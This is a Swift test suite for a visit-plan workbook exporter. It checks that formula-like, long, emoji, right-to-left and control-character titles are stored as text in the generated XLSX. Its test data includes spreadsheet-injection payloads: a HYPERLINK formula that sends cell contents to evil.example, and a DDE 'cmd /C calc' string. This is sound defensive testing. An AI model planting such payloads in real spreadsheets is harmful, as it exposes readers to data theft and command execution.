import Foundation
import Testing
import VisitCheck
import VisitCore
import VisitDiagnostics
import VisitLoader
import VisitTestSupport
import VisitWorkbook
import VisitXLSX

/// Text from a visit file can never become a formula, break a sheet, or
/// corrupt the file.
@Suite("Hostile text in the workbook")
struct HostileTextTests {
  @Test("formula-like, long, emoji, right-to-left and control-character texts stay text")
  func hostile() throws {
    let hostile = [
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1", "-2",
      "@SUM(A1)", String(repeating: "Длинное название ", count: 60) + "конец",
      "Встреча 🇷🇺🤝🏽 делегаций",
      "اجتماع الوفد", "Tab\there and bell\u{7} too",
    ]
    var events = ""
    for (index, title) in hostile.enumerated() {
      // YAML forbids raw control characters; a file carries them as escapes.
      var quoted = ""
      for scalar in title.unicodeScalars {
        switch scalar {
        case "\\": quoted += "\\\\"
        case "\"": quoted += "\\\""
        case _ where scalar.value < 0x20:
          quoted += "\\x" + String(scalar.value, radix: 16).leftPadded(to: 2)
        default: quoted.unicodeScalars.append(scalar)
        }
      }
      events +=
        "      - {id: e\(index), title: \"\(quoted)\", time: 1\(index % 10):00-1\(index % 10):30, participants: [p]}\n"
    }
    let text = """
      format: visitplan/1
      visit: {title: "History: [a]/b*? & =1+1", timezone: UTC}
      people: {p: {name: "=Иванов Иван", position: "@cmd"}}
      days:
        - date: 2018-06-19
          events:
      \(events)
      """
    let loaded = VisitLoader.load(text: text)
    #expect(loaded.diagnostics.isEmpty, "\(loaded.diagnostics.map(\.message.english))")
    let workbook = try OfficialWorkbook.make(
      loaded.visit, diagnostics: Checker().check(loaded), language: .russian)
    let folder = try TestPaths.makeTemporaryFolder()
    defer { try? FileManager.default.removeItem(at: folder) }
    let path = folder.appendingPathComponent("hostile.xlsx").path
    try WorkbookWriter.write(workbook, to: path)
    let book = try XLSXInspection(path: path)
    #expect(book.formulaCount == 0)
    let titles = book.column("Программа", "D").compactMap { $0.value as? String }
    for title in hostile.dropLast() {
      #expect(titles.contains(title), "\(title.prefix(30))")
    }
    // A control character other than tab and line breaks has no place in
    // XML (document properties, headers) and shows as nothing in a cell: it
    // is dropped everywhere alike.
    #expect(titles.contains("Tab\there and bell too"))
    for cell in (book.sheet("Программа")?["cells"] as? [String: [String: Any]] ?? [:]).values {
      if let value = cell["value"] as? String,
        value.hasPrefix("=") || value.hasPrefix("+") || value.hasPrefix("@")
      {
        #expect(cell["type"] as? String == "s")
      }
    }
    #expect(book.cell("Участники", "B2")?["value"] as? String == "=Иванов Иван")
    #expect(book.sheet("Программа")?["header"] as? String == "History: [a]/b*? && =1+1")
  }

  @Test("a title too long for a page header is cut, not refused")
  func longTitle() throws {
    let title = String(repeating: "Очень длинное название визита & ", count: 20)
    let loaded = VisitLoader.load(
      text: "format: visitplan/1\nvisit: {title: \"\(title)\", timezone: UTC}\n")
    let workbook = try OfficialWorkbook.make(loaded.visit, diagnostics: [], language: .russian)
    let folder = try TestPaths.makeTemporaryFolder()
    defer { try? FileManager.default.removeItem(at: folder) }
    try WorkbookWriter.write(workbook, to: folder.appendingPathComponent("long.xlsx").path)
  }
}

extension String {
  fileprivate func leftPadded(to width: Int) -> String {
    String(repeating: "0", count: max(0, width - count)) + self
  }
}
